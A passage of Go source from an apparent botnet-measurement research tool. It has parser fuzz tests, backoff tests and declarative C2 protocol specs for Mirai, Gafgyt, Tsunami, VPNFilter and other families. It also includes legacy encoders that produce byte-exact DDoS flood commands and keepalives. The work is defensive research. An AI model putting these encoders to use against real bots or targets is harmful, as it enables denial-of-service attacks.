		for _, n := range []int{0, 3, 17, 51, 52, 100, len(raw) / 2, len(raw) - 1} {
			if n >= 0 && n < len(raw) {
				f.Add(raw[:n])
			}
		}
		// Header corruptions: section counts, offsets, and the
		// string-table index live in the first 52 bytes.
		for off := 0; off < 52; off += 7 {
			mut := append([]byte(nil), raw...)
			mut[off] ^= 0xff
			f.Add(mut)
		}
	}

	f.Fuzz(func(t *testing.T, raw []byte) {
		// Errors are fine — panics and runaway allocations are not.
		if _, err := SniffArch(raw); err != nil {
			// A blob the sniffer rejects is dropped by the
			// collection filter; Parse must still be safe on it
			// because other tools call Parse directly.
			_ = err
		}
		bin, err := Parse(raw)
		if err != nil {
			return
		}
		if bin.SHA256 == "" {
			t.Fatal("parsed binary without SHA256")
		}
		// Section lookups and config extraction over whatever
		// section table survived parsing.
		_ = bin.Section(".botcfg")
		if _, err := ExtractConfig(bin); err != nil {
			return
		}
	})
}
