package c2

import (
	"errors"
	"syscall"
	"testing"
	"time"

	"malnet/internal/simnet"
)

// checkBackoffInvariants asserts the three properties the retry layer
// depends on: delays never shrink, never exceed the cap, and are a
// pure function of the Backoff's fields.
func checkBackoffInvariants(t *testing.T, b Backoff, attempts int) {
	t.Helper()
	_, cap := b.backoffDefaults()
	twin := Backoff{Base: b.Base, Cap: b.Cap, Seed: b.Seed, Key: b.Key}
	prev := time.Duration(-1)
	for n := 0; n < attempts; n++ {
		d := b.Delay(n)
		if d < 0 {
			t.Fatalf("Delay(%d) = %v, negative (base=%v cap=%v seed=%d)", n, d, b.Base, b.Cap, b.Seed)
		}
		if d > cap {
			t.Fatalf("Delay(%d) = %v exceeds cap %v (base=%v seed=%d)", n, d, cap, b.Base, b.Seed)
		}
		if d < prev {
			t.Fatalf("Delay(%d) = %v < Delay(%d) = %v: schedule not monotone (base=%v cap=%v seed=%d key=%q)",
				n, d, n-1, prev, b.Base, b.Cap, b.Seed, b.Key)
		}
		if d2 := twin.Delay(n); d2 != d {
			t.Fatalf("identical Backoffs disagree at attempt %d: %v vs %v", n, d, d2)
		}
		prev = d
	}
}

func TestBackoffSchedule(t *testing.T) {
	cases := []Backoff{
		{},
		{Base: time.Second, Cap: 60 * time.Second, Seed: 1, Key: "60.0.0.9:23"},
		{Base: 250 * time.Millisecond, Cap: 8 * time.Second, Seed: 99, Key: "round-3"},
		{Base: time.Minute, Cap: time.Second, Seed: 5}, // cap below base clamps up
		{Base: -1, Cap: -1, Seed: 7},                   // degenerate inputs take defaults
	}
	for _, b := range cases {
		checkBackoffInvariants(t, b, 64)
	}
}

// TestBackoffDifferentKeysDiffer: the jitter stream must actually use
// the key, or every probe in a round retries in lockstep.
func TestBackoffDifferentKeysDiffer(t *testing.T) {
	a := Backoff{Base: time.Second, Cap: time.Hour, Seed: 1, Key: "a"}
	b := Backoff{Base: time.Second, Cap: time.Hour, Seed: 1, Key: "b"}
	for n := 0; n < 16; n++ {
		if a.Delay(n) != b.Delay(n) {
			return
		}
	}
	t.Fatal("keys a and b produced identical 16-step schedules; jitter ignores Key")
}

// FuzzBackoffSchedule fuzzes the schedule parameters and re-asserts
// the invariants; go test runs the seed corpus as ordinary cases.
func FuzzBackoffSchedule(f *testing.F) {
	f.Add(int64(1000), int64(60000), int64(1), "c2")
	f.Add(int64(0), int64(0), int64(0), "")
	f.Add(int64(-5), int64(1), int64(123), "x")
	f.Add(int64(1), int64(1<<50), int64(7), "huge-cap")
	f.Fuzz(func(t *testing.T, baseMS, capMS, seed int64, key string) {
		// Clamp to the sane ranges callers use; the type defends the
		// degenerate ones itself and TestBackoffSchedule covers those.
		if baseMS > int64(24*time.Hour/time.Millisecond) {
			baseMS %= int64(24 * time.Hour / time.Millisecond)
		}
		if capMS > int64(24*time.Hour/time.Millisecond) {
			capMS %= int64(24 * time.Hour / time.Millisecond)
		}
		b := Backoff{
			Base: time.Duration(baseMS) * time.Millisecond,
			Cap:  time.Duration(capMS) * time.Millisecond,
			Seed: seed,
			Key:  key,
		}
		checkBackoffInvariants(t, b, 48)
	})
}

func TestAliveOnReset(t *testing.T) {
	if !AliveOnReset(simnet.ErrReset) {
		t.Fatal("simnet.ErrReset should read as alive-but-rude")
	}
	if !AliveOnReset(syscall.ECONNRESET) {
		t.Fatal("ECONNRESET should read as alive-but-rude")
	}
	for _, err := range []error{nil, simnet.ErrTimeout, simnet.ErrRefused, errors.New("boom")} {
		if AliveOnReset(err) {
			t.Fatalf("AliveOnReset(%v) = true, want false", err)
		}
	}
}

func TestTransientProbeError(t *testing.T) {
	for _, err := range []error{simnet.ErrTimeout, simnet.ErrReset, syscall.ECONNRESET, syscall.ETIMEDOUT} {
		if !TransientProbeError(err) {
			t.Fatalf("TransientProbeError(%v) = false, want true", err)
		}
	}
	for _, err := range []error{nil, simnet.ErrRefused, simnet.ErrClosed} {
		if TransientProbeError(err) {
			t.Fatalf("TransientProbeError(%v) = true, want false", err)
		}
	}
}
