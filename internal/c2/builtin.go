package c2

import "malnet/internal/c2/spec"

// The built-in family specs: the paper's seven families (Table 6)
// plus the two scenario-pack families. Each spec is the complete
// declarative protocol the historical hand-written implementations
// encoded; the equivalence suite (legacy_equiv_test.go) pins the
// compiled wire bytes to the hand-coded originals.

// Well-known wire fragments, kept exported for probers and tests.
var (
	// MiraiHandshake is the bot's opening message (version 1).
	MiraiHandshake = []byte{0x00, 0x00, 0x00, 0x01}
	// MiraiPing is the 2-byte keepalive, echoed verbatim by the C2.
	MiraiPing = []byte{0x00, 0x00}
)

// Text-protocol keepalive fragments.
const (
	GafgytPing = "PING"
	GafgytPong = "PONG!"
	DaddyPing  = "!ping"
	DaddyPong  = "!pong"
	// TsunamiChannel is the control channel bots join.
	TsunamiChannel = "#tsunami"
)

// defaultDuty is the paper-calibrated elusiveness model (§3.2,
// Figure 4) every built-in family ships with.
var defaultDuty = spec.DutyModel{SlotHours: 4, RespAfterResp: 0.09, RespAfterIdle: 0.30}

// commonArtifacts are the .rodata strings every family's samples
// carry (busybox droppers share tooling).
var commonArtifacts = []string{
	"/bin/busybox", "/proc/net/tcp", "/dev/watchdog", "/dev/null",
	"enable", "system", "shell", "sh", "ps", "GET /%s HTTP/1.0",
}

func artifacts(own ...string) []string {
	return append(append([]string{}, commonArtifacts...), own...)
}

// MiraiSpec is Mirai's protocol, following the leaked source: a
// 4-byte handshake, 2-byte keepalive pings echoed by the server, and
// length-prefixed binary attack commands.
var MiraiSpec = spec.ProtocolSpec{
	Name:            FamilyMirai,
	Transport:       "binary",
	Description:     "Exploits IoT devices and turns them into bots; appeared 2016 (Dyn, OVH attacks). Binary-based C2 protocol.",
	LaunchesAttacks: true,
	Framing:         spec.FramingBinary,
	Login:           []string{"\x00\x00\x00\x01"},
	Session: spec.SessionSpec{
		Ready:     spec.ReadyHandshake,
		ReadyPat:  "\x00\x00\x00\x01",
		EchoExact: "\x00\x00",
	},
	Keepalive: spec.KeepaliveSpec{
		// The bot pings every 60 s; the server echoes; the echo is
		// swallowed (empty Pong).
		Ping: "\x00\x00", Client: "\x00\x00", ClientEverySecs: 60,
	},
	Commands: &spec.CommandSpec{Binary: &spec.BinaryCommandSpec{
		// Vector ids from the leaked source (subset in the study's
		// traffic); 33 is a variant-specific TLS extension.
		Vectors: []spec.VectorSpec{
			{Attack: AttackUDPFlood, Vector: 0}, // "UDP Flood" — command value "0" per §5.1
			{Attack: AttackVSE, Vector: 1},
			{Attack: AttackSYNFlood, Vector: 3},
			{Attack: AttackSTOMP, Vector: 5},
			{Attack: AttackTLS, Vector: 33, TCPTransport: true},
		},
		DportOptKey: 7, // from the leaked source's attack.h
	}},
	Probe: &spec.ProbeSpec{
		// Handshake, then a keepalive ping the C2 will echo.
		Messages: []string{"\x00\x00\x00\x01", "\x00\x00"},
		Engage:   []spec.Match{{Kind: spec.MatchExact, Pat: "\x00\x00"}},
	},
	Signature: &spec.SignatureSpec{
		Match: spec.Match{Kind: spec.MatchPrefix, Pat: "\x00\x00\x00\x01"},
		Label: "mirai-handshake",
	},
	Duty: defaultDuty,
	Artifacts: artifacts("/bin/busybox MIRAI", "listening tun0",
		"TSource Engine Query", "/dev/misc/watchdog", "PMMV"),
	Ports:            []uint16{23, 1312, 666, 606, 1791, 9506},
	MultiSourcePorts: spec.MultiSourceV2,
}

// GafgytSpec is Gafgyt's text protocol (bashlite lineage):
// newline-terminated lines; the server keepalives with "PING", bots
// answer "PONG!"; commands look like "!* UDP <ip> <port> <secs>".
var GafgytSpec = spec.ProtocolSpec{
	Name:            FamilyGafgyt,
	Transport:       "text",
	Description:     "Infects Linux/BusyBox systems to launch DDoS attacks; appeared 2014. Text-based C2 protocol.",
	LaunchesAttacks: true,
	Framing:         spec.FramingLines,
	Login:           []string{"BUILD GAFGYT {variant}\n"},
	Session:         spec.SessionSpec{Ready: spec.ReadyAnyData},
	Keepalive: spec.KeepaliveSpec{
		Server: GafgytPing + "\n", Ping: GafgytPing, Pong: GafgytPong,
	},
	Commands: &spec.CommandSpec{Text: &spec.TextCommandSpec{
		Prefix: "!* ",
		Verbs: []spec.VerbSpec{
			{Attack: AttackUDPFlood, Verb: "UDP"},
			{Attack: AttackSYNFlood, Verb: "SYN"},
			{Attack: AttackVSE, Verb: "VSE"},
			{Attack: AttackSTD, Verb: "STD"},
		},
	}},
	Probe: &spec.ProbeSpec{
		Messages: []string{"BUILD GAFGYT PROBE\n"},
		Engage:   []spec.Match{{Kind: spec.MatchContains, Pat: GafgytPing}},
	},
	Signature: &spec.SignatureSpec{
		Match: spec.Match{Kind: spec.MatchPrefix, Pat: "BUILD GAFGYT"},
		Label: "gafgyt-login",
	},
	Duty: defaultDuty,
	Artifacts: artifacts("PING", "PONG!", "REPORT %s:%s:%s", "BOGOMIPS",
		"/bin/busybox wget", "gafgyt.infect"),
	Ports: []uint16{666, 6738, 1014, 42516, 81},
}

// TsunamiSpec is Tsunami's IRC dialect (Table 6: "its communication
// over the IRC protocol"). Only the message types the bots and C2s
// exchange are modeled: registration (NICK/USER), channel join,
// server PING/PONG, and PRIVMSG carrying operator commands. No
// Tsunami DDoS launches appear in the study's D-DDOS, so commands
// are opaque strings.
var TsunamiSpec = spec.ProtocolSpec{
	Name:        FamilyTsunami,
	Transport:   "irc",
	Description: "Linux backdoor with download-and-execute capability. Communicates over IRC.",
	Framing:     spec.FramingIRC,
	Login:       []string{"NICK {nick}\r\n", "USER {nick} 8 * :tsunami\r\n"},
	Session: spec.SessionSpec{
		Ready:       spec.ReadyIRC,
		ServerName:  "c2",
		WelcomeText: "welcome",
		Channel:     TsunamiChannel,
	},
	Keepalive: spec.KeepaliveSpec{Server: "PING :c2\r\n"},
	Probe: &spec.ProbeSpec{
		Messages: []string{"NICK probe\r\n", "USER probe 8 * :probe\r\n"},
		Engage: []spec.Match{
			{Kind: spec.MatchContains, Pat: " 001 "},
			{Kind: spec.MatchPrefix, Pat: ":"},
		},
	},
	Signature: &spec.SignatureSpec{
		Match: spec.Match{Kind: spec.MatchPrefix, Pat: "NICK "},
		Label: "irc-register",
	},
	Duty: defaultDuty,
	Artifacts: artifacts("NICK %s", "MODE %s +xi", "JOIN %s :%s", "PRIVMSG",
		"NOTICE %s :TSUNAMI", "kaiten.c"),
	Ports: []uint16{6667},
}

// DaddySpec is Daddyl33t's text protocol (the QBot-derived family
// the authors reverse-engineered): bare verbs — "UDPRAW <ip> <port>
// <secs>", "NURSE <ip> <secs>", ...
var DaddySpec = spec.ProtocolSpec{
	Name:            FamilyDaddyl33t,
	Transport:       "text",
	Description:     "QBot-derived family targeting IoT devices; distinct DDoS attacks against ICMP and gaming servers.",
	LaunchesAttacks: true,
	Framing:         spec.FramingLines,
	Login:           []string{"l33t {nick}\n"},
	Session:         spec.SessionSpec{Ready: spec.ReadyLinePrefix, ReadyPat: "l33t"},
	Keepalive: spec.KeepaliveSpec{
		Server: DaddyPing + "\n", Ping: DaddyPing, Pong: DaddyPong,
	},
	Commands: &spec.CommandSpec{Text: &spec.TextCommandSpec{
		Verbs: []spec.VerbSpec{
			{Attack: AttackUDPFlood, Verb: "UDPRAW"},
			{Attack: AttackSYNFlood, Verb: "HYDRASYN"},
			{Attack: AttackTLS, Verb: "TLS"},
			{Attack: AttackBlacknurse, Verb: "NURSE", Portless: true},
			{Attack: AttackNFO, Verb: "NFOV6"},
		},
	}},
	Probe: &spec.ProbeSpec{
		Messages: []string{"l33t probe\n"},
		Engage:   []spec.Match{{Kind: spec.MatchContains, Pat: DaddyPing}},
	},
	Signature: &spec.SignatureSpec{
		Match: spec.Match{Kind: spec.MatchPrefix, Pat: "l33t "},
		Label: "daddyl33t-login",
	},
	Duty: defaultDuty,
	Artifacts: artifacts("UDPRAW", "HYDRASYN", "NURSE", "NFOV6",
		"daddyl33t-army", "qbot.mod"),
	Ports:            []uint16{1312, 3074, 6969},
	MultiSourcePorts: spec.MultiSourceAlways,
}

// HajimeSpec: pure P2P, no client-server C2 to speak.
var HajimeSpec = spec.ProtocolSpec{
	Name:        FamilyHajime,
	Transport:   "p2p",
	Description: "P2P IoT malware; secures the infected device while extending its reach.",
	P2P:         true,
	Framing:     spec.FramingRaw,
	Session:     spec.SessionSpec{Ready: spec.ReadyNone},
	Duty:        defaultDuty,
	Artifacts:   artifacts("atk.airdropmalware", ".i.hajime", "stage2.bin"),
}

// MoziSpec: pure P2P (DHT), no client-server C2.
var MoziSpec = spec.ProtocolSpec{
	Name:        FamilyMozi,
	Transport:   "p2p",
	Description: "Evolution of Mirai/Gafgyt with Hajime-style P2P (DHT); among the most prevalent Linux malware, 10x sample growth in 2021.",
	P2P:         true,
	Framing:     spec.FramingRaw,
	Session:     spec.SessionSpec{Ready: spec.ReadyNone},
	Duty:        defaultDuty,
	Artifacts: artifacts("dht.transmissionbt.com", "router.bittorrent.com",
		"Mozi.m", "[ss]", "[hp]", "v2s"),
}

// VPNFilterSpec is the stage-1 HTTPS beacon: the bot GETs the
// stage-2 marker image; the distribution endpoint answers 200.
var VPNFilterSpec = spec.ProtocolSpec{
	Name:        FamilyVPNFilter,
	Transport:   "https",
	Description: "APT targeting routers and network devices; persists across reboots.",
	Framing:     spec.FramingRaw,
	Login:       []string{"GET /user/vpnf/update.jpg HTTP/1.1\r\nHost: update\r\nUser-Agent: curl/7.47\r\n\r\n"},
	Session: spec.SessionSpec{
		Ready:      spec.ReadyChunkPrefix,
		ReadyPat:   "GET ",
		ReadyReply: "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
	},
	Keepalive: spec.KeepaliveSpec{
		// Re-beacon without the User-Agent line.
		Client:          "GET /user/vpnf/update.jpg HTTP/1.1\r\nHost: update\r\n\r\n",
		ClientEverySecs: 60,
	},
	Signature: &spec.SignatureSpec{
		Match: spec.Match{Kind: spec.MatchContains, Pat: "/user/vpnf"},
		Label: "vpnfilter-beacon",
	},
	Duty: defaultDuty,
	Artifacts: artifacts("/var/run/vpnfilterw", "photobucket.com/user", "torproject",
		"vpnfilter-stage1"),
	Ports: []uint16{443},
}

// WispSpec is the P2P relay scenario pack: a Mozi-style mesh where
// bots phone relay nodes and relays forward commands from a hidden
// origin C2 peer-to-peer. Wire grammar is a plain line protocol so
// the relay's upstream leg reuses the ordinary client machine.
var WispSpec = spec.ProtocolSpec{
	Name:            FamilyWisp,
	Transport:       "text",
	Description:     "Scenario pack: Mozi-style P2P relay mesh; bots join relay nodes that forward commands from a hidden origin C2.",
	Topology:        spec.TopologyP2PRelay,
	LaunchesAttacks: true,
	Framing:         spec.FramingLines,
	Login:           []string{"JOIN.MESH {nick}\n"},
	Session:         spec.SessionSpec{Ready: spec.ReadyLinePrefix, ReadyPat: "JOIN.MESH"},
	Keepalive: spec.KeepaliveSpec{
		Server: "MESH.PING\n", Ping: "MESH.PING", Pong: "MESH.PONG",
	},
	Commands: &spec.CommandSpec{Text: &spec.TextCommandSpec{
		Verbs: []spec.VerbSpec{
			{Attack: AttackUDPFlood, Verb: "RELAY.UDP"},
			{Attack: AttackSYNFlood, Verb: "RELAY.SYN"},
			{Attack: AttackSTD, Verb: "RELAY.STD"},
		},
	}},
	Probe: &spec.ProbeSpec{
		Messages: []string{"JOIN.MESH probe\n"},
		Engage:   []spec.Match{{Kind: spec.MatchContains, Pat: "MESH.PING"}},
	},
	Signature: &spec.SignatureSpec{
		Match: spec.Match{Kind: spec.MatchPrefix, Pat: "JOIN.MESH "},
		Label: "wisp-mesh-join",
	},
	Duty:      defaultDuty,
	Artifacts: artifacts("JOIN.MESH", "RELAY.UDP", "wisp.mesh", "seed.node"),
	Ports:     []uint16{7915},
}

// SoraSpec is the DGA scenario pack: C2 endpoints are DGA domains
// rotating on a seed-deterministic schedule; the protocol itself is
// a plain line grammar.
var SoraSpec = spec.ProtocolSpec{
	Name:            FamilySora,
	Transport:       "text",
	Description:     "Scenario pack: DGA-style endpoint churn; C2 domains rotate on a seed-deterministic schedule.",
	Topology:        spec.TopologyDGA,
	LaunchesAttacks: true,
	Framing:         spec.FramingLines,
	Login:           []string{"sora auth {nick}\n"},
	Session:         spec.SessionSpec{Ready: spec.ReadyLinePrefix, ReadyPat: "sora auth"},
	Keepalive: spec.KeepaliveSpec{
		Server: "sping\n", Ping: "sping", Pong: "spong",
	},
	Commands: &spec.CommandSpec{Text: &spec.TextCommandSpec{
		Prefix: "@! ",
		Verbs: []spec.VerbSpec{
			{Attack: AttackUDPFlood, Verb: "UDP"},
			{Attack: AttackSYNFlood, Verb: "SYN"},
			{Attack: AttackVSE, Verb: "VSE"},
		},
	}},
	Probe: &spec.ProbeSpec{
		Messages: []string{"sora auth probe\n"},
		Engage:   []spec.Match{{Kind: spec.MatchContains, Pat: "sping"}},
	},
	Signature: &spec.SignatureSpec{
		Match: spec.Match{Kind: spec.MatchPrefix, Pat: "sora auth "},
		Label: "sora-auth",
	},
	Duty:      defaultDuty,
	Artifacts: artifacts("sora auth", "dga.gen", "sora.dl"),
	Ports:     []uint16{48101},
}

func init() {
	// Table 6 order first, then the scenario packs.
	for _, ps := range []spec.ProtocolSpec{
		MiraiSpec, GafgytSpec, TsunamiSpec, DaddySpec,
		HajimeSpec, MoziSpec, VPNFilterSpec,
		WispSpec, SoraSpec,
	} {
		Register(MustCompile(ps))
	}
}
