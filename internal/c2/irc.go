package c2

import (
	"fmt"
	"strings"
)

// Tsunami speaks IRC (Table 6: "its communication over the IRC
// protocol"). Only the handful of message types the bots and C2s
// exchange are modeled: registration (NICK/USER), channel join,
// server PING/PONG, and PRIVMSG carrying operator commands. No
// Tsunami DDoS launches appear in the study's D-DDOS, so commands
// are opaque strings here.

// IRCMessage is one parsed IRC line.
type IRCMessage struct {
	Prefix  string
	Command string
	Params  []string
	// Trailing is the ":"-prefixed final parameter.
	Trailing string
}

// EncodeIRC renders the message as a CRLF-terminated IRC line.
func (m IRCMessage) EncodeIRC() []byte {
	var sb strings.Builder
	if m.Prefix != "" {
		sb.WriteByte(':')
		sb.WriteString(m.Prefix)
		sb.WriteByte(' ')
	}
	sb.WriteString(m.Command)
	for _, p := range m.Params {
		sb.WriteByte(' ')
		sb.WriteString(p)
	}
	if m.Trailing != "" {
		sb.WriteString(" :")
		sb.WriteString(m.Trailing)
	}
	sb.WriteString("\r\n")
	return []byte(sb.String())
}

// ParseIRC parses one IRC line (without its CRLF).
func ParseIRC(line string) (IRCMessage, error) {
	line = strings.TrimRight(line, "\r\n")
	var m IRCMessage
	if line == "" {
		return m, fmt.Errorf("c2: empty IRC line")
	}
	rest := line
	if rest[0] == ':' {
		sp := strings.IndexByte(rest, ' ')
		if sp < 0 {
			return m, fmt.Errorf("c2: IRC prefix without command: %q", line)
		}
		m.Prefix = rest[1:sp]
		rest = rest[sp+1:]
	}
	if tr := strings.Index(rest, " :"); tr >= 0 {
		m.Trailing = rest[tr+2:]
		rest = rest[:tr]
	}
	fields := strings.Fields(rest)
	if len(fields) == 0 {
		return m, fmt.Errorf("c2: IRC line without command: %q", line)
	}
	m.Command = fields[0]
	m.Params = fields[1:]
	return m, nil
}

// Tsunami session constants.
const (
	// TsunamiChannel is the control channel bots join.
	TsunamiChannel = "#tsunami"
)
