package c2

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"malnet/internal/c2/spec"
)

// This file pins the spec-driven protocols to the hand-written
// implementations they replaced. The legacy* functions below are the
// original per-family codecs, copied verbatim (renamed, unexported)
// from the pre-spec c2 package; the tests assert byte-for-byte
// equality between them and the compiled specs across the command
// space, logins, keepalives, probes, and signatures. If a spec edit
// would change any wire byte, these tests catch it before the
// dataset goldens do.

// ---- legacy Mirai (verbatim from the removed mirai.go) ----

var (
	errLegacyMiraiShort  = errors.New("c2: short mirai command")
	errLegacyMiraiVector = errors.New("c2: unknown mirai attack vector")
)

func legacyMiraiVector(a AttackType) (uint8, error) {
	switch a {
	case AttackUDPFlood:
		return 0, nil
	case AttackVSE:
		return 1, nil
	case AttackSYNFlood:
		return 3, nil
	case AttackSTOMP:
		return 5, nil
	case AttackTLS:
		return 33, nil
	}
	return 0, fmt.Errorf("%w: %v not a mirai attack", errLegacyMiraiVector, a)
}

func legacyMiraiAttack(vec uint8) (AttackType, error) {
	switch vec {
	case 0:
		return AttackUDPFlood, nil
	case 1:
		return AttackVSE, nil
	case 3:
		return AttackSYNFlood, nil
	case 5:
		return AttackSTOMP, nil
	case 33:
		return AttackTLS, nil
	}
	return 0, fmt.Errorf("%w: vector %d", errLegacyMiraiVector, vec)
}

func legacyEncodeMiraiAttack(cmd Command) ([]byte, error) {
	vec, err := legacyMiraiVector(cmd.Attack)
	if err != nil {
		return nil, err
	}
	if !cmd.Target.Is4() {
		return nil, fmt.Errorf("c2: mirai target %v is not IPv4", cmd.Target)
	}
	body := make([]byte, 0, 16)
	body = binary.BigEndian.AppendUint32(body, uint32(cmd.Duration.Seconds()))
	body = append(body, vec, 1) // one target
	ip := cmd.Target.As4()
	body = append(body, ip[:]...)
	body = append(body, 32) // /32
	if cmd.Port != 0 {
		body = append(body, 1, 7, 2)
		body = binary.BigEndian.AppendUint16(body, cmd.Port)
	} else {
		body = append(body, 0)
	}
	out := make([]byte, 2, 2+len(body))
	binary.BigEndian.PutUint16(out, uint16(2+len(body)))
	return append(out, body...), nil
}

func legacyDecodeMiraiAttack(b []byte) (*Command, error) {
	if len(b) < 2 {
		return nil, errLegacyMiraiShort
	}
	total := int(binary.BigEndian.Uint16(b))
	if total > len(b) || total < 8 {
		return nil, errLegacyMiraiShort
	}
	body := b[2:total]
	if len(body) < 6 {
		return nil, errLegacyMiraiShort
	}
	dur := time.Duration(binary.BigEndian.Uint32(body)) * time.Second
	attack, err := legacyMiraiAttack(body[4])
	if err != nil {
		return nil, err
	}
	n := int(body[5])
	pos := 6
	if n < 1 || len(body) < pos+5*n+1 {
		return nil, errLegacyMiraiShort
	}
	target := netip.AddrFrom4([4]byte(body[pos : pos+4]))
	pos += 5 * n
	cmd := &Command{Attack: attack, Target: target, Duration: dur, Raw: b[:total]}
	nOpts := int(body[pos])
	pos++
	for i := 0; i < nOpts; i++ {
		if len(body) < pos+2 {
			return nil, errLegacyMiraiShort
		}
		key, vlen := body[pos], int(body[pos+1])
		pos += 2
		if len(body) < pos+vlen {
			return nil, errLegacyMiraiShort
		}
		if key == 7 && vlen == 2 {
			cmd.Port = binary.BigEndian.Uint16(body[pos:])
		}
		pos += vlen
	}
	if attack == AttackTLS {
		cmd.TCPTransport = true // Mirai's TLS variant attacks TCP
	}
	return cmd, nil
}

func legacyIsMiraiHandshake(b []byte) bool {
	return len(b) >= 4 && b[0] == 0 && b[1] == 0 && b[2] == 0 && b[3] == 1
}

func legacyIsMiraiPing(b []byte) bool {
	return len(b) == 2 && b[0] == 0 && b[1] == 0
}

// ---- legacy Gafgyt / Daddyl33t (verbatim from the removed text.go) ----

var (
	errLegacyNotCommand = errors.New("c2: line is not a DDoS command")
	errLegacyBadCommand = errors.New("c2: malformed DDoS command")
)

func legacyGafgytVerb(a AttackType) (string, bool) {
	switch a {
	case AttackUDPFlood:
		return "UDP", true
	case AttackSYNFlood:
		return "SYN", true
	case AttackVSE:
		return "VSE", true
	case AttackSTD:
		return "STD", true
	}
	return "", false
}

func legacyEncodeGafgytCommand(cmd Command) ([]byte, error) {
	verb, ok := legacyGafgytVerb(cmd.Attack)
	if !ok {
		return nil, fmt.Errorf("c2: %v is not a gafgyt attack", cmd.Attack)
	}
	return []byte(fmt.Sprintf("!* %s %s %d %d\n", verb, cmd.Target, cmd.Port, int(cmd.Duration.Seconds()))), nil
}

func legacyParseGafgytLine(line string) (*Command, error) {
	line = strings.TrimSpace(line)
	if !strings.HasPrefix(line, "!* ") {
		return nil, errLegacyNotCommand
	}
	fields := strings.Fields(line[3:])
	if len(fields) < 4 {
		return nil, fmt.Errorf("%w: %q", errLegacyBadCommand, line)
	}
	var attack AttackType
	switch fields[0] {
	case "UDP":
		attack = AttackUDPFlood
	case "SYN":
		attack = AttackSYNFlood
	case "VSE":
		attack = AttackVSE
	case "STD":
		attack = AttackSTD
	default:
		return nil, fmt.Errorf("%w: verb %q", errLegacyBadCommand, fields[0])
	}
	return legacyParseIPPortSecs(attack, fields[1], fields[2], fields[3], line)
}

func legacyDaddyVerb(a AttackType) (string, bool) {
	switch a {
	case AttackUDPFlood:
		return "UDPRAW", true
	case AttackSYNFlood:
		return "HYDRASYN", true
	case AttackTLS:
		return "TLS", true
	case AttackBlacknurse:
		return "NURSE", true
	case AttackNFO:
		return "NFOV6", true
	}
	return "", false
}

func legacyEncodeDaddyCommand(cmd Command) ([]byte, error) {
	verb, ok := legacyDaddyVerb(cmd.Attack)
	if !ok {
		return nil, fmt.Errorf("c2: %v is not a daddyl33t attack", cmd.Attack)
	}
	if cmd.Attack == AttackBlacknurse {
		return []byte(fmt.Sprintf("%s %s %d\n", verb, cmd.Target, int(cmd.Duration.Seconds()))), nil
	}
	return []byte(fmt.Sprintf("%s %s %d %d\n", verb, cmd.Target, cmd.Port, int(cmd.Duration.Seconds()))), nil
}

func legacyParseDaddyLine(line string) (*Command, error) {
	line = strings.TrimSpace(line)
	fields := strings.Fields(line)
	if len(fields) == 0 {
		return nil, errLegacyNotCommand
	}
	var attack AttackType
	switch fields[0] {
	case "UDPRAW":
		attack = AttackUDPFlood
	case "HYDRASYN":
		attack = AttackSYNFlood
	case "TLS":
		attack = AttackTLS
	case "NURSE":
		attack = AttackBlacknurse
	case "NFOV6":
		attack = AttackNFO
	default:
		return nil, errLegacyNotCommand
	}
	if attack == AttackBlacknurse {
		if len(fields) < 3 {
			return nil, fmt.Errorf("%w: %q", errLegacyBadCommand, line)
		}
		return legacyParseIPPortSecs(attack, fields[1], "0", fields[2], line)
	}
	if len(fields) < 4 {
		return nil, fmt.Errorf("%w: %q", errLegacyBadCommand, line)
	}
	return legacyParseIPPortSecs(attack, fields[1], fields[2], fields[3], line)
}

func legacyParseIPPortSecs(attack AttackType, ipS, portS, secS, raw string) (*Command, error) {
	ip, err := netip.ParseAddr(ipS)
	if err != nil {
		return nil, fmt.Errorf("%w: target %q", errLegacyBadCommand, ipS)
	}
	port, err := strconv.ParseUint(portS, 10, 16)
	if err != nil {
		return nil, fmt.Errorf("%w: port %q", errLegacyBadCommand, portS)
	}
	secs, err := strconv.Atoi(secS)
	if err != nil || secs < 0 {
		return nil, fmt.Errorf("%w: duration %q", errLegacyBadCommand, secS)
	}
	return &Command{
		Attack:   attack,
		Target:   ip,
		Port:     uint16(port),
		Duration: time.Duration(secs) * time.Second,
		Raw:      []byte(raw),
	}, nil
}

// ---- the equivalence suite ----

func mustLookup(t *testing.T, family string) Protocol {
	t.Helper()
	p, ok := Lookup(family)
	if !ok {
		t.Fatalf("Lookup(%q): not registered", family)
	}
	return p
}

// commandSpace enumerates representative commands across attack
// types, ports (incl. portless), and durations.
func commandSpace(attacks []AttackType) []Command {
	targets := []string{"192.0.2.1", "198.51.100.250", "203.0.113.77"}
	ports := []uint16{0, 53, 80, 443, 27015, 61613, 65535}
	durs := []time.Duration{time.Second, 30 * time.Second, 2 * time.Minute, time.Hour}
	var out []Command
	for _, a := range attacks {
		for _, tg := range targets {
			for _, p := range ports {
				for _, d := range durs {
					out = append(out, Command{
						Attack: a, Target: netip.MustParseAddr(tg), Port: p, Duration: d,
					})
				}
			}
		}
	}
	return out
}

func TestSpecEquivalenceMirai(t *testing.T) {
	p := mustLookup(t, FamilyMirai)
	attacks := []AttackType{AttackUDPFlood, AttackVSE, AttackSYNFlood, AttackSTOMP, AttackTLS}
	for _, cmd := range commandSpace(attacks) {
		legacy, lerr := legacyEncodeMiraiAttack(cmd)
		got, gerr := p.EncodeCommand(cmd)
		if (lerr == nil) != (gerr == nil) {
			t.Fatalf("encode %v: legacy err=%v spec err=%v", cmd, lerr, gerr)
		}
		if lerr != nil {
			continue
		}
		if !bytes.Equal(legacy, got) {
			t.Fatalf("encode %v:\nlegacy %x\nspec   %x", cmd, legacy, got)
		}
		lc, lerr := legacyDecodeMiraiAttack(legacy)
		gc, gerr := p.DecodeCommand(got)
		if lerr != nil || gerr != nil {
			t.Fatalf("decode %v: legacy err=%v spec err=%v", cmd, lerr, gerr)
		}
		if !reflect.DeepEqual(lc, gc) {
			t.Fatalf("decode %v:\nlegacy %+v\nspec   %+v", cmd, lc, gc)
		}
	}
	// Attacks outside the command set fail in both.
	for _, a := range []AttackType{AttackBlacknurse, AttackSTD, AttackNFO} {
		cmd := Command{Attack: a, Target: netip.MustParseAddr("192.0.2.1"), Duration: time.Minute}
		if _, err := p.EncodeCommand(cmd); err == nil {
			t.Fatalf("encode %v: spec accepted a non-mirai attack", a)
		}
	}
	// Truncations agree (error presence).
